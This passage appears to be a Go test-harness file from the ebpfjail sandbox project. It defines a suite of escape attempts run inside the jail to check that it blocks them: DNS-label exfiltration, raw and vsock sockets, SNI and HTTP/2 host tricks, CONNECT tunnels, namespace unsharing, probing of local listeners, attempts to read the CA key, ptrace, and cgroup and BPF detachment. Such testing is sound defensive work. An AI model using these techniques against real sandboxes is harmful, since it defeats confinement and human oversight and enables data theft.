//go:build linux

package attack

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/http2"
	"golang.org/x/sys/unix"

	"github.com/ebpfjail/ebpfjail/internal/mounts"
)

// Attempt is one escape attempt, run inside the jail.
type Attempt struct {
	Name string
	// What it tries, for the report's readers.
	What string
	Run  func(s Spec) (Status, string)
	// Control attempts must get through (Reached) for the run to count.
	Control bool
}

// Attempts is the built-in set, in the order they run. The fd scan comes
// first (before the attempts make sockets of their own); the ones that
// could change the attacker's own standing (setuid, cgroup, BPF) come last,
// so a success there cannot make an earlier attempt look blocked.
func Attempts() []Attempt {
	all := []Attempt{
		{Name: "inherited-fd", What: "use a socket inherited from outside the jail", Run: inheritedFD},
		{Name: "control-http", What: "an allowed request over HTTP (must reach the target)", Run: controlHTTP, Control: true},
		{Name: "control-https", What: "an allowed request over HTTPS (must reach the target)", Run: controlHTTPS, Control: true},
		{Name: "raw-socket", What: "open an IPv4 raw socket", Run: socketAttempt(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
		{Name: "raw6-socket", What: "open an IPv6 raw socket", Run: socketAttempt(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)},
		{Name: "packet-socket", What: "open a packet socket", Run: socketAttempt(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))},
		{Name: "icmp-ping", What: "ping the target (ICMP datagram socket)", Run: ping(false)},
		{Name: "icmp6-ping", What: "ping the target over IPv6", Run: ping(true)},
		{Name: "vsock", What: "a vsock stream (to the hypervisor host, past the inet hooks)", Run: socketAttempt(unix.AF_VSOCK, unix.SOCK_STREAM, 0)},
		{Name: "other-families", What: "TIPC, RDS, SMC, XDP, CAN, Bluetooth, AppleTalk, X.25 sockets", Run: otherFamilies},
		{Name: "mptcp", What: "open an MPTCP socket", Run: socketAttempt(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP)},
		{Name: "sctp", What: "open an SCTP socket", Run: socketAttempt(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP)},
		{Name: "udp", What: "UDP to a non-DNS port (sendto and connect, IPv4 and IPv6)", Run: udp},
		{Name: "quic", What: "a QUIC-style Initial over UDP/443", Run: quic},
		{Name: "tcp-ipv4", What: "plain HTTP to the target's IPv4 address", Run: tcpTo(func(s Spec) netip.Addr { return s.V4 })},
		{Name: "tcp-ipv6", What: "plain HTTP to the target's IPv6 address", Run: tcpTo(func(s Spec) netip.Addr { return s.V6 })},
		{Name: "tcp-v4-mapped", What: "plain HTTP to ::ffff:IPv4 from an IPv6 socket", Run: tcpTo(func(s Spec) netip.Addr { return netip.AddrFrom16(s.V4.As16()) })},
		{Name: "bind-to-device", What: "SO_BINDTODEVICE to each interface, then connect", Run: bindToDevice},
		{Name: "tcp-not-http", What: "a non-HTTP protocol over TCP", Run: notHTTP},
		{Name: "tcp-fastopen", What: "TCP Fast Open: sendto(MSG_FASTOPEN) with the request as SYN data", Run: fastOpen},
		{Name: "tcp-fastopen-connect", What: "TCP_FASTOPEN_CONNECT, then connect", Run: fastOpenConnect},
		{Name: "io-uring-connect", What: "connect through io_uring (IORING_OP_CONNECT)", Run: uringConnect},
		{Name: "dns-udp", What: "DNS over UDP straight to the target's resolver", Run: dnsAttempt("udp")},
		{Name: "dns-tcp", What: "DNS over TCP straight to the target's resolver", Run: dnsAttempt("tcp")},
		{Name: "dns-exfil", What: "data in DNS labels (A, AAAA, TXT) to the target and 127.0.0.1", Run: dnsExfil},
		{Name: "sni-host-mismatch", What: "TLS with the allowed name as SNI, another Host inside", Run: sniMismatch},
		{Name: "h2-authority", What: "a second HTTP/2 stream for another name on a connection to the allowed one", Run: h2Authority},
		{Name: "dns-over-https", What: "a DoH query (POST /dns-query) over TLS", Run: dnsOverHTTPS},
		{Name: "dns-over-tls", What: "a DoT query (DNS over TLS)", Run: dnsOverTLS},
		{Name: "absolute-uri", What: "GET http://forbidden/ with the allowed Host header", Run: absoluteURI(false)},
		{Name: "absolute-uri-tls", What: "the same inside TLS to the allowed name", Run: absoluteURI(true)},
		{Name: "connect-relay", What: "CONNECT forbidden:80 sent to the allowed host", Run: connectRelay(false)},
		{Name: "connect-relay-tls", What: "CONNECT forbidden:443 inside TLS to the allowed host", Run: connectRelay(true)},
		{Name: "connect-port-tls", What: "CONNECT to a port the rule refuses, inside TLS to the allowed host", Run: connectPortTLS},
		{Name: "upgrade-past-max-tx", What: "an Upgrade under max_tx_bytes 1000, then 1 MiB through the upgraded connection", Run: upgradePastMaxTx},
		{Name: "local-name", What: "an allowed name that resolves to the loopback canary", Run: localName},
		{Name: "local-listeners", What: "reach every local listening TCP port (ebpfjail's own included)", Run: localListeners},
		{Name: "local-udp", What: "a datagram to every local UDP port (ebpfjail's DNS shim included)", Run: localUDP},
		{Name: "inbound", What: "receive from another host: a server on 0.0.0.0 and [::], TCP and UDP", Run: inbound},
		{Name: "connect-then-exit", What: "a denied program connects, sends, exits before ebpfjail accepts", Run: identityRace("connect-then-exit")},
		{Name: "connect-then-exec", What: "a denied program connects, sends, execs an allowed one", Run: identityRace("connect-then-exec")},
		{Name: "unshare-netns", What: "a new user+network namespace, then connect", Run: unshareNetns},
		{Name: "unix-resolver", What: "look a name up through a resolver daemon's unix socket", Run: unixAttempt(func(s Spec) []string { return s.Resolver }, resolverQuery)},
		{Name: "unix-engine", What: "connect to a container engine's unix socket", Run: unixAttempt(func(s Spec) []string { return s.Engine }, engineQuery)},
		engineAttempt("unix-engine-slashes", "the engine's socket as //path", spellSlashes),
		engineAttempt("unix-engine-dot", "the engine's socket as dir/./name", spellDot),
		engineAttempt("unix-engine-dotdot", "the engine's socket as dir/../dir/name", spellDotDot),
		engineAttempt("unix-engine-relative", "the engine's socket by a relative path from its directory", spellRelative),
		engineAttempt("unix-engine-symlink", "the engine's socket through a symlink made in a temp dir", spellSymlink),
		engineAttempt("unix-engine-proc-root", "the engine's socket as /proc/self/root/path", spellProcRoot),
		engineAttempt("unix-engine-proc-fd", "the engine's socket as /proc/self/fd/N of an O_PATH descriptor", spellProcFD),
		engineAttempt("unix-engine-ppid-root", "the engine's socket through ebpfjail's /proc/PID/root", spellSupervisorRoot),
		{Name: "ca-key", What: "read ebpfjail's CA private key", Run: caKey},
		{Name: "state-tamper", What: "write into ebpfjail's jail records", Run: stateTamper},
		{Name: "control-socket", What: "the jail's own control socket (watch, ps): by its path, //path, dir/./name, /proc/self/root/path, a symlink", Run: controlSocket},
	}
	all = append(all, isolationAttempts()...)
	return append(all, []Attempt{
		{Name: "ptrace-supervisor", What: "ptrace ebpfjail", Run: ptraceSupervisor},
		{Name: "setuid", What: "regain root through a setuid-root program", Run: setuid},
		{Name: "cgroup-escape", What: "move out of the jail's cgroup, then connect", Run: cgroupEscape},
		{Name: "bpf-detach", What: "detach the jail's BPF programs through their pins", Run: bpfDetach},
	}...)
}

// Run runs every attempt and writes one JSON Outcome per line to w.
func Run(s Spec, w io.Writer) { RunOnly(nil, s, w) }

// RunOnly is Run of the attempts named in names (all of them if nil): a
// few attempts inside a container, whose jail has no mount namespace,
// seccomp filter or Landlock domain of ebpfjail's.
func RunOnly(names []string, s Spec, w io.Writer) {
	enc := json.NewEncoder(w)
	for _, a := range Attempts() {
		if names != nil && !slices.Contains(names, a.Name) {
			continue
		}
		st, detail := a.Run(s)
		if a.Control {
			if st == Leaked {
				st = Reached
			} else {
				st, detail = Broken, "did not reach the target: "+detail
			}
		}
		enc.Encode(Outcome{Name: a.Name, Status: st, Detail: detail})
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func socketAttempt(domain, typ, proto int) func(Spec) (Status, string) {
	return func(Spec) (Status, string) {
		fd, err := unix.Socket(domain, typ|unix.SOCK_CLOEXEC, proto)
		if err != nil {
			return Blocked, "socket: " + errText(err)
		}
		unix.Close(fd)
		return Leaked, "socket created"
	}
}

// otherFamilies tries the address families a module may provide: none
// of them goes through the jail's inet hooks.
func otherFamilies(Spec) (Status, string) {
	tries := []struct {
		name        string
		domain, typ int
	}{
		{"tipc", unix.AF_TIPC, unix.SOCK_RDM}, {"rds", unix.AF_RDS, unix.SOCK_SEQPACKET},
		{"smc", unix.AF_SMC, unix.SOCK_STREAM}, {"xdp", unix.AF_XDP, unix.SOCK_RAW},
		{"can", unix.AF_CAN, unix.SOCK_RAW}, {"bluetooth", unix.AF_BLUETOOTH, unix.SOCK_STREAM},
		{"appletalk", unix.AF_APPLETALK, unix.SOCK_DGRAM}, {"x25", unix.AF_X25, unix.SOCK_SEQPACKET},
		{"llc", unix.AF_LLC, unix.SOCK_DGRAM}, {"qipcrtr", unix.AF_QIPCRTR, unix.SOCK_DGRAM},
	}
	var made, refused []string
	for _, tr := range tries {
		fd, err := unix.Socket(tr.domain, tr.typ|unix.SOCK_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
			made = append(made, tr.name)
			continue
		}
		refused = append(refused, tr.name+": "+errText(err))
	}
	if len(made) > 0 {
		return Leaked, "created " + strings.Join(made, ", ")
	}
	return Blocked, strings.Join(refused, ", ")
}

// inheritedFD looks for sockets it did not open: ebpfjail's own parent
// hands it one (connected to the target) to see whether it gets through.
func inheritedFD(s Spec) (Status, string) {
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return Broken, "read /proc/self/fd: " + err.Error()
	}
	var found []string
	for _, e := range ents {
		fd, err := strconv.Atoi(e.Name())
		if err != nil || fd <= 2 {
			continue
		}
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFSOCK {
			continue
		}
		// Go's runtime opens no sockets of its own: this one came in.
		if _, err := unix.Write(fd, []byte(get(Decoy, "/inherited-fd"))); err == nil {
			found = append(found, strconv.Itoa(fd))
		}
	}
	if len(found) > 0 {
		return Leaked, "wrote to inherited socket fd " + strings.Join(found, ", ")
	}
	return Blocked, "no socket beyond fds 0-2 was inherited"
}

func controlHTTP(s Spec) (Status, string) {
	c, err := toTarget(s, "")
	if err != nil {
		return Blocked, errText(err)
	}
	return exchange(c, get(Decoy, "/control-http"))
}

func controlHTTPS(s Spec) (Status, string) {
	c, err := toTarget(s, Decoy)
	if err != nil {
		return Blocked, errText(err)
	}
	return exchange(c, get(Decoy, "/control-https"))
}

// ping opens an ICMP datagram ("ping") socket and, should that work, sends
// an echo request to the target.
func ping(v6 bool) func(Spec) (Status, string) {
	return func(s Spec) (Status, string) {
		dom, proto, typ, to := unix.AF_INET, unix.IPPROTO_ICMP, byte(8), netip.AddrPortFrom(s.V4, 0)
		if v6 {
			dom, proto, typ, to = unix.AF_INET6, unix.IPPROTO_ICMPV6, byte(128), netip.AddrPortFrom(s.V6, 0)
		}
		fd, err := unix.Socket(dom, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, proto)
		if err != nil {
			return Blocked, "socket: " + errText(err)
		}
		defer unix.Close(fd)
		msg := append([]byte{typ, 0, 0, 0, 0, 1, 0, 1}, "icmp-ping"...)
		if err := unix.Sendto(fd, msg, 0, sockaddr(to)); err != nil {
			return Blocked, "socket created, sendto: " + errText(err)
		}
		return Leaked, "echo request sent"
	}
}

// sendUDP tries sendto on an unconnected socket and write on a connected
// one; any datagram that leaves is a leak.
func sendUDP(to netip.AddrPort, payload []byte) (sent bool, detail string) {
	fd, err := unix.Socket(family(to), unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return false, "socket: " + errText(err)
	}
	defer unix.Close(fd)
	var out []string
	if err := unix.Sendto(fd, payload, 0, sockaddr(to)); err == nil {
		sent = true
		out = append(out, "sendto went out")
	} else {
		out = append(out, "sendto: "+errText(err))
	}
	if err := unix.Connect(fd, sockaddr(to)); err != nil {
		out = append(out, "connect: "+errText(err))
	} else if _, err := unix.Write(fd, payload); err == nil {
		sent = true
		out = append(out, "write went out")
	} else {
		out = append(out, "write: "+errText(err))
	}
	return sent, strings.Join(out, ", ")
}

func udpAll(s Spec, port uint16, payload []byte) (Status, string) {
	var details []string
	leaked := false
	for _, a := range []netip.Addr{s.V4, s.V6} {
		sent, d := sendUDP(netip.AddrPortFrom(a, port), payload)
		leaked = leaked || sent
		details = append(details, fmt.Sprintf("%s: %s", familyName(a), d))
	}
	if leaked {
		return Leaked, strings.Join(details, "; ")
	}
	return Blocked, strings.Join(details, "; ")
}

func familyName(a netip.Addr) string {
	if a.Is4() {
		return "IPv4"
	}
	return "IPv6"
}

func udp(s Spec) (Status, string) { return udpAll(s, s.UDP, []byte("udp attack datagram")) }

func quic(s Spec) (Status, string) {
	// A long-header Initial of QUIC v1, padded to 1200 bytes as clients do.
	pkt := make([]byte, 1200)
	copy(pkt, []byte{0xc3, 0, 0, 0, 1, 8})
	copy(pkt[16:], "quic")
	return udpAll(s, s.QUIC, pkt)
}

func tcpTo(addr func(Spec) netip.Addr) func(Spec) (Status, string) {
	return func(s Spec) (Status, string) {
		a := addr(s)
		c, err := rawDial(netip.AddrPortFrom(a, s.HTTP))
		if err != nil {
			return Blocked, errText(err)
		}
		name := "tcp-ipv4"
		switch {
		case a.Is4In6():
			name = "tcp-v4-mapped"
		case a.Is6():
			name = "tcp-ipv6"
		}
		return exchange(c, get(netip.AddrPortFrom(a.Unmap(), s.HTTP).String(), "/"+name))
	}
}

// notHTTP speaks SSH's banner: ebpfjail must refuse the connection, while
// an HTTP server reached directly would answer 400.
func notHTTP(s Spec) (Status, string) {
	c, err := toTarget(s, "")
	if err != nil {
		return Blocked, errText(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(opTimeout))
	io.WriteString(c, "SSH-2.0-tcp-not-http\r\n\r\n")
	b, err := io.ReadAll(io.LimitReader(c, 64))
	if len(b) > 0 {
		return Leaked, fmt.Sprintf("answered %q", firstLine(string(b)))
	}
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return Leaked, "no answer and no reset: something other than ebpfjail holds the connection"
	}
	return Blocked, "connection refused without an answer (" + errText(err) + ")"
}

func fastOpen(s Spec) (Status, string) {
	to := netip.AddrPortFrom(s.V4, s.HTTP)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return Blocked, "socket: " + errText(err)
	}
	tv := unix.NsecToTimeval(opTimeout.Nanoseconds())
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv)
	if err := unix.Sendto(fd, []byte(get(to.String(), "/tcp-fastopen")), unix.MSG_FASTOPEN, sockaddr(to)); err != nil {
		unix.Close(fd)
		return Blocked, "sendto(MSG_FASTOPEN): " + errText(err)
	}
	c, err := fileConn(fd)
	if err != nil {
		return Broken, err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(opTimeout))
	return judgeResponse(bufio.NewReader(c))
}

func fastOpenConnect(s Spec) (Status, string) {
	to := netip.AddrPortFrom(s.V4, s.HTTP)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return Blocked, "socket: " + errText(err)
	}
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
		unix.Close(fd)
		return Blocked, "setsockopt(TCP_FASTOPEN_CONNECT): " + errText(err)
	}
	if err := unix.Connect(fd, sockaddr(to)); err != nil {
		unix.Close(fd)
		return Blocked, "connect: " + errText(err)
	}
	c, err := fileConn(fd)
	if err != nil {
		return Broken, err.Error()
	}
	return exchange(c, get(to.String(), "/tcp-fastopen-connect"))
}

func uringConnect(s Spec) (Status, string) {
	to := netip.AddrPortFrom(s.V4, s.HTTP)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return Blocked, "socket: " + errText(err)
	}
	if err := ringConnect(fd, to); err != nil {
		unix.Close(fd)
		if errors.Is(err, errNoRing) {
			return Blocked, err.Error()
		}
		return Blocked, "IORING_OP_CONNECT: " + errText(err)
	}
	c, err := fileConn(fd)
	if err != nil {
		return Broken, err.Error()
	}
	return exchange(c, get(to.String(), "/io-uring-connect"))
}

// dnsQuery sends one query; a reply with any answer record counts as
// reached (the jail's resolver answers NXDOMAIN for what the rule denies).
func dnsQuery(netw string, server netip.AddrPort, name string, qtype uint16) (bool, string) {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), qtype)
	c := &dns.Client{Net: netw, Timeout: opTimeout}
	r, _, err := c.Exchange(m, server.String())
	if err != nil {
		return false, fmt.Sprintf("%s %s: %s", netw, server, errText(err))
	}
	if len(r.Answer) > 0 {
		return true, fmt.Sprintf("%s %s answered %s", netw, server, strings.Join(strings.Fields(r.Answer[0].String()), " "))
	}
	return false, fmt.Sprintf("%s %s: %s", netw, server, dns.RcodeToString[r.Rcode])
}

func dnsAttempt(netw string) func(Spec) (Status, string) {
	return func(s Spec) (Status, string) {
		var details []string
		leaked := false
		for _, a := range []netip.Addr{s.V4, s.V6} {
			got, d := dnsQuery(netw, netip.AddrPortFrom(a, s.DNS), "dns-"+netw+"."+Forbidden, dns.TypeA)
			leaked = leaked || got
			details = append(details, d)
		}
		if leaked {
			return Leaked, strings.Join(details, "; ")
		}
		return Blocked, strings.Join(details, "; ")
	}
}

// dnsExfil hides data in labels, as a tunnel does (one query per chunk).
func dnsExfil(s Spec) (Status, string) {
	secret := fmt.Sprintf("%x", []byte("ebpfjail-secret-"+strconv.Itoa(os.Getpid())))
	servers := []netip.AddrPort{netip.AddrPortFrom(s.V4, s.DNS), netip.AddrPortFrom(s.V6, s.DNS), netip.MustParseAddrPort("127.0.0.1:53")}
	leaked, n := false, 0
	var last string
	for i, qt := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT} {
		for _, srv := range servers {
			name := fmt.Sprintf("dns-exfil.%s.%d.%s", secret, i, Forbidden)
			got, d := dnsQuery("udp", srv, name, qt)
			n++
			if got {
				leaked, last = true, d
			} else if last == "" {
				last = d
			}
		}
	}
	if leaked {
		return Leaked, last
	}
	return Blocked, fmt.Sprintf("%d queries, none answered (%s, ...)", n, last)
}

// h2Authority opens HTTP/2 to the allowed name, gets it answered, then
// asks for the forbidden one on the same connection (connection
// coalescing, as browsers do for names sharing a certificate).
func h2Authority(s Spec) (Status, string) {
	c, err := dial(netip.AddrPortFrom(s.V4, s.HTTPS))
	if err != nil {
		return Blocked, errText(err)
	}
	tc := tls.Client(c, &tls.Config{ServerName: Decoy, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	tc.SetDeadline(time.Now().Add(2 * opTimeout))
	if err := tc.Handshake(); err != nil {
		c.Close()
		return Blocked, "tls handshake: " + errText(err)
	}
	defer tc.Close()
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		return Broken, fmt.Sprintf("the allowed name did not speak HTTP/2 (ALPN %q): cannot try", p)
	}
	cc, err := (&http2.Transport{}).NewClientConn(tc)
	if err != nil {
		return Blocked, errText(err)
	}
	defer cc.Close()
	// The first stream is the allowed control's request, the second the attempt.
	for _, host := range []string{Decoy, Forbidden} {
		path := "/h2-authority"
		if host == Decoy {
			path = "/control-https"
		}
		req, _ := http.NewRequest(http.MethodGet, "https://"+host+path, nil)
		resp, err := cc.RoundTrip(req)
		if err != nil {
			return Blocked, host + ": " + errText(err)
		}
		st, d := judge(resp, nil)
		if host == Decoy {
			if st != Leaked {
				return Broken, "the allowed name was refused on HTTP/2 (" + d + "): cannot try"
			}
			continue
		}
		return st, "the second stream: " + d
	}
	return Broken, "unreachable"
}

func dnsOverHTTPS(s Spec) (Status, string) {
	m := new(dns.Msg)
	m.SetQuestion("dns-over-https."+Forbidden+".", dns.TypeA)
	q, _ := m.Pack()
	c, err := toTarget(s, Forbidden)
	if err != nil {
		return Blocked, errText(err)
	}
	req := fmt.Sprintf("POST /dns-query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/dns-message\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", Forbidden, len(q), q)
	return exchange(c, req)
}

// dnsOverTLS speaks DNS (length-prefixed, RFC 7858) inside TLS: not HTTP,
// so the jail must refuse it after the handshake.
func dnsOverTLS(s Spec) (Status, string) {
	m := new(dns.Msg)
	m.SetQuestion("dns-over-tls."+Forbidden+".", dns.TypeA)
	q, _ := m.Pack()
	c, err := toTarget(s, Forbidden)
	if err != nil {
		return Blocked, errText(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(opTimeout))
	if _, err := c.Write(append([]byte{byte(len(q) >> 8), byte(len(q))}, q...)); err != nil {
		return Blocked, "write: " + errText(err)
	}
	b, err := io.ReadAll(io.LimitReader(c, 512))
	if len(b) > 0 {
		return Leaked, fmt.Sprintf("answered %d bytes", len(b))
	}
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return Leaked, "no answer and no reset: something other than ebpfjail holds the connection"
	}
	return Blocked, "closed without an answer (" + errText(err) + ")"
}

// bindToDevice pins the socket to each interface in turn, hoping the
// rewrite to the loopback listener then fails open.
func bindToDevice(s Spec) (Status, string) {
	ifs, err := net.Interfaces()
	if err != nil {
		return Broken, err.Error()
	}
	var details []string
	for i, ifc := range ifs {
		if i >= 6 {
			break
		}
		if ifc.Flags&net.FlagUp == 0 {
			continue
		}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return Blocked, "socket: " + errText(err)
		}
		if err := unix.BindToDevice(fd, ifc.Name); err != nil {
			unix.Close(fd)
			details = append(details, ifc.Name+": "+errText(err))
			continue
		}
		// Through a device that cannot carry it the SYN just waits: a
		// short wait tells enough (EINPROGRESS: nothing answered).
		tv := unix.NsecToTimeval((500 * time.Millisecond).Nanoseconds())
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv)
		if err := unix.Connect(fd, sockaddr(netip.AddrPortFrom(s.V4, s.HTTP))); err != nil {
			unix.Close(fd)
			details = append(details, ifc.Name+": connect: "+errText(err))
			continue
		}
		c, err := fileConn(fd)
		if err != nil {
			return Broken, err.Error()
		}
		st, d := exchange(c, get(Forbidden, "/bind-to-device"))
		if st != Blocked {
			return st, ifc.Name + ": " + d
		}
		details = append(details, ifc.Name+": "+d)
	}
	return Blocked, strings.Join(details, "; ")
}

func sniMismatch(s Spec) (Status, string) {
	c, err := toTarget(s, Decoy)
	if err != nil {
		return Blocked, errText(err)
	}
	return exchange(c, get(Forbidden, "/sni-host-mismatch"))
}

func absoluteURI(overTLS bool) func(Spec) (Status, string) {
	return func(s Spec) (Status, string) {
		name, sni := "absolute-uri", ""
		if overTLS {
			name, sni = "absolute-uri-tls", Decoy
		}
		c, err := toTarget(s, sni)
		if err != nil {
			return Blocked, errText(err)
		}
		return exchange(c, "GET http://"+Forbidden+"/"+name+" HTTP/1.1\r\nHost: "+Decoy+"\r\nConnection: close\r\n\r\n")
	}
}

// connectRelay asks the allowed host (were it a proxy) to open a tunnel
// elsewhere, with a request for the forbidden name right behind. ebpfjail
// may answer the CONNECT itself and decide the tunnel's requests one by
// one: then the request inside is what must be denied.
func connectRelay(overTLS bool) func(Spec) (Status, string) {
	return func(s Spec) (Status, string) {
		// The request behind the CONNECT is clear text either way, so the
		// tunnel is to port 80.
		name, port, sni := "connect-relay", "80", ""
		if overTLS {
			name, sni = "connect-relay-tls", Decoy
		}
		c, err := toTarget(s, sni)
		if err != nil {
			return Blocked, errText(err)
		}
		return tunnelThrough(c, Forbidden+":"+port, Decoy, name, get(Forbidden, "/"+name))
	}
}

// localListeners tries every TCP port something listens on, on loopback
// or on all addresses: ebpfjail's listener and DNS shim, and whatever
// admin API the machine runs. Each must be refused or denied.
func localListeners(s Spec) (Status, string) {
	ports := map[netip.AddrPort]bool{}
	for _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		for _, ap := range listening(f, "0A") {
			ports[ap] = true
		}
	}
	if len(ports) == 0 {
		return Broken, "no listening socket found in /proc/net/tcp: cannot try"
	}
	tried := 0
	for ap := range ports {
		// Port 53 is DNS to the jail: the shim's, tried by dns-tcp.
		if ap.Port() == 53 {
			continue
		}
		if tried >= 64 {
			break
		}
		tried++
		c, err := rawDial(ap)
		if err != nil {
			continue
		}
		if st, d := exchange(c, get(ap.String(), "/local-listeners")); st != Blocked {
			return Leaked, ap.String() + ": " + d
		}
	}
	return Blocked, fmt.Sprintf("%d local listening ports, each refused or denied", tried)
}

// localUDP sends a DNS query (the one thing the jail may send over UDP)
// to every local UDP port but 53. The kernel refuses all but the DNS
// shim's own port, and the shim answers nothing for a denied name; a reply
// with records or silence after a send means someone else got it.
func localUDP(s Spec) (Status, string) {
	var ports []netip.AddrPort
	for _, f := range []string{"/proc/net/udp", "/proc/net/udp6"} {
		ports = append(ports, listening(f, "07")...)
	}
	refused, shim := 0, 0
	for _, ap := range ports {
		if ap.Port() == 53 {
			continue
		}
		st, d := sendQuery(ap, "local-udp."+Forbidden)
		switch st {
		case Leaked:
			return Leaked, ap.String() + ": " + d
		case Reached:
			shim++
		default:
			refused++
		}
	}
	return Blocked, fmt.Sprintf("%d local UDP ports refused, %d answered as the DNS shim", refused, shim)
}

// sendQuery sends one DNS query from an unconnected socket (sendto, where
// the shim's own port is let through) and judges: Blocked when refused,
// Reached when answered without records, Leaked otherwise.
func sendQuery(to netip.AddrPort, name string) (Status, string) {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), dns.TypeA)
	q, err := m.Pack()
	if err != nil {
		return Broken, err.Error()
	}
	fd, err := unix.Socket(family(to), unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return Blocked, "socket: " + errText(err)
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, q, 0, sockaddr(to)); err != nil {
		return Blocked, "sendto: " + errText(err)
	}
	tv := unix.NsecToTimeval(opTimeout.Nanoseconds())
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	buf := make([]byte, 1500)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return Leaked, "sent, and no answer (" + errText(err) + "): someone other than the shim took it"
	}
	r := new(dns.Msg)
	if err := r.Unpack(buf[:n]); err != nil || len(r.Answer) > 0 {
		return Leaked, fmt.Sprintf("sent, and answered %d bytes", n)
	}
	return Reached, dns.RcodeToString[r.Rcode]
}

// listening parses a /proc/net/{tcp,udp}{,6} table for sockets in state
// (0A: TCP LISTEN, 07: an unconnected UDP socket) reachable over loopback;
// a wildcard one is tried at the loopback address.
func listening(path, state string) []netip.AddrPort {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil
	}
	var out []netip.AddrPort
	for _, line := range strings.Split(string(b), "\n")[1:] {
		f := strings.Fields(line)
		if len(f) < 4 || f[3] != state {
			continue
		}
		hexAddr, hexPort, ok := strings.Cut(f[1], ":")
		port, err := strconv.ParseUint(hexPort, 16, 16)
		if !ok || err != nil {
			continue
		}
		a, ok := procAddr(hexAddr)
		if !ok {
			continue
		}
		switch {
		case a.IsUnspecified() && a.Is4():
			a = netip.MustParseAddr("127.0.0.1")
		case a.IsUnspecified():
			a = netip.IPv6Loopback()
		case !a.IsLoopback():
			continue
		}
		out = append(out, netip.AddrPortFrom(a, uint16(port)))
	}
	return out
}

// procAddr decodes /proc/net's hex address: 32-bit words in host (little
// endian here) order.
func procAddr(h string) (netip.Addr, bool) {
	var b [16]byte
	if len(h) != 8 && len(h) != 32 {
		return netip.Addr{}, false
	}
	for w := 0; w < len(h)/8; w++ {
		v, err := strconv.ParseUint(h[w*8:w*8+8], 16, 32)
		if err != nil {
			return netip.Addr{}, false
		}
		b[w*4], b[w*4+1], b[w*4+2], b[w*4+3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
	}
	if len(h) == 8 {
		return netip.AddrFrom4([4]byte(b[:4])), true
	}
	return netip.AddrFrom16(b).Unmap(), true
}

// unshareNetns starts itself in a new user and network namespace (where
// it is "root") and connects from there.
func unshareNetns(s Spec) (Status, string) {
	cmd := exec.Command("/proc/self/exe", StepArg, "unshare-netns", s.Encode())
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	return runStep(cmd, "new user+network namespace")
}

// runStep runs a sub-attempt in its own process and reads its Outcome.
func runStep(cmd *exec.Cmd, what string) (Status, string) {
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		return Blocked, what + ": " + errText(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(4 * opTimeout):
		cmd.Process.Kill()
		<-done
		return Leaked, what + ": the step did not finish"
	}
	var o Outcome
	if err := json.Unmarshal(out.Bytes(), &o); err != nil {
		return Leaked, fmt.Sprintf("%s: the step said %q %q", what, out.String(), errb.String())
	}
	return o.Status, what + ": " + o.Detail
}

// StepArg is the hidden first argument that makes ebpfjail run one step of
// an attempt in a process of its own.
const StepArg = "__attack-step"

// RunStep runs the named step (in the process runStep started) and writes
// its Outcome.
func RunStep(name string, s Spec, w io.Writer) {
	var st Status
